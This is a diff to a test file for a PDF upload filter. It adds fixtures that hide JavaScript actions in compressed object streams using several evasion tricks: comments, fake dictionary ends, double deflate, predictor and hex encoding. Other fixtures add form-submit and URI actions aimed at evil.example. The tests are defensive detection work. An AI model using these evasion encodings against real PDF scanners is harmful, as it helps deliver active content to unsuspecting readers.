@@ -71,16 +71,32 @@ const pdfOf = (...objects: string[]) =>
   text(
     `%PDF-1.7\n${objects.map((one, at) => `${at + 1} 0 obj\n${one}\nendobj\n`).join("")}trailer <</Size 9 /Root 1 0 R>>\n%%EOF\n`,
   );
-const packedPdf = (inside: string) => {
-  const packed = deflateSync(Buffer.from(inside, "latin1"));
+const hiddenScript = "1 0 <</S /JavaScript /JS (app.alert(1))>>";
+/** Rows of four bytes, each byte but a row's first as its difference to the one before: what viewers put back. */
+const asDifferences = (plain: Uint8Array): Uint8Array =>
+  Uint8Array.from({ length: Math.ceil(plain.length / 4) * 5 }, (_, at) => {
+    const [row, column] = [Math.floor(at / 5), (at % 5) - 1];
+    if (column < 0) return 1;
+    const here = row * 4 + column;
+    return (plain[here] ?? 0) - (column > 0 ? (plain[here - 1] ?? 0) : 0);
+  });
+const asDigits = (packed: Uint8Array): Uint8Array => text(`${packed.toHex()}>`);
+const pack = (bytes: Uint8Array): Uint8Array => new Uint8Array(deflateSync(bytes));
+
+/** A paper whose objects lie packed; `within` its dictionary, `after` it. */
+const packedPdf = (
+  inside: string,
+  { type = "/Type /ObjStm", within = "", after = "", by = pack }: Partial<Packing> = {},
+) => {
+  const packed = by(text(inside));
+  const words = `${type} ${within} /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length}`;
   return joined(
-    text(
-      `%PDF-1.7\n1 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length}>>\nstream\n`,
-    ),
-    new Uint8Array(packed),
+    text(`%PDF-1.7\n1 0 obj\n<<${words}>>${after}\nstream\n`),
+    packed,
     text("\nendstream\nendobj\n%%EOF\n"),
   );
 };
+type Packing = { type: string; within: string; after: string; by: (plain: Uint8Array) => Uint8Array };
 
 const has = (bytes: Uint8Array, what: string) => Buffer.from(bytes).includes(what);
 
@@ -147,6 +163,10 @@ test("what is made to be read for long is read in no time: twice as much takes a
     "<<>>   ",
     "1 0 obj<</Type",
     ">>stream\n",
+    "stream\nx\x9c",
+    "/AA %\n",
+    "/JS ",
+    "/First 1 ",
     "<</Type /ObjStm /Fl>>stream\n",
     "/AA 1",
     "/OpenAction ",
@@ -172,7 +192,31 @@ describe("a PDF", () => {
     ["sends what is typed", pdfOf("<</S /SubmitForm /F (http://evil.example)>>")],
     ["acts when it is opened", pdfOf("<</OpenAction 3 0 R>>")],
     ["is locked, so that nobody can look", pdfOf("<</Encrypt 4 0 R>>")],
-    ["packs its script away", packedPdf("1 0 <</S /JavaScript /JS (app.alert(1))>>")],
+    ["packs its script away", packedPdf(hiddenScript)],
+    ["does so behind a comment", packedPdf(hiddenScript, { after: "%\n" })],
+    ["does so in a dictionary that seems to end", packedPdf(hiddenScript, { within: "/X (>>\nstream\n)" })],
+    [
+      "does so in a dictionary of many words",
+      packedPdf(hiddenScript, { within: `/X (${"y".repeat(4_000)})` }),
+    ],
+    ["says nothing of what its stream is", packedPdf(hiddenScript, { type: "" })],
+    ["packs its script away twice", packedPdf(hiddenScript, { by: (plain) => pack(pack(plain)) })],
+    [
+      "packs it away by differences",
+      packedPdf(hiddenScript, {
+        within: "/DecodeParms <</Predictor 12 /Columns 4>>",
+        by: (plain) => pack(asDifferences(plain)),
+      }),
+    ],
+    [
+      "packs it away in digits",
+      packedPdf(hiddenScript, { within: "/F [/ASCIIHexDecode]", by: (plain) => asDigits(pack(plain)) }),
+    ],
+    [
+      "acts when it is opened, after a zero byte",
+      pdfOf("<</OpenAction\0<</S /URI /URI (http://evil.example)>>>>"),
+    ],
+    ["acts on a page, after a comment", pdfOf("<</AA %\n<</O <</S /URI /URI (http://evil.example)>>>>>>")],
   ];
   for (const [what, file] of active)
     test(`that ${what} is refused`, async () => {
@@ -187,5 +231,17 @@ describe("a PDF", () => {
     );
     expect(await upload(still)).toEqual(still);
     expect(isStill(packedPdf("1 0 <</Type /Page>>"))).toBe(true);
+    expect(isStill(pdfOf("<</Type /Outlines /First 3 0 R /Last 3 0 R>>"))).toBe(true);
+  });
+
+  test("with a large picture is not refused for what its bytes happen to spell", () => {
+    const noise = Buffer.from(crypto.getRandomValues(new Uint8Array(60_000))).toString("latin1");
+    const spelt = "/JSx\xff/JS\xfe/AA\xfd/JS7 ";
+    const picture = `<</Subtype /Image /Filter /DCTDecode>>\nstream\n${spelt}${noise}\nendstream`;
+    expect(isStill(pdfOf(picture))).toBe(true);
+    const drawn = deflateSync(Buffer.alloc(80_000_000, 255)).toString("latin1");
+    expect(isStill(pdfOf(`<</Subtype /Image /Filter /FlateDecode>>\nstream\n${drawn}\nendstream`))).toBe(
+      true,
+    );
   });
 });
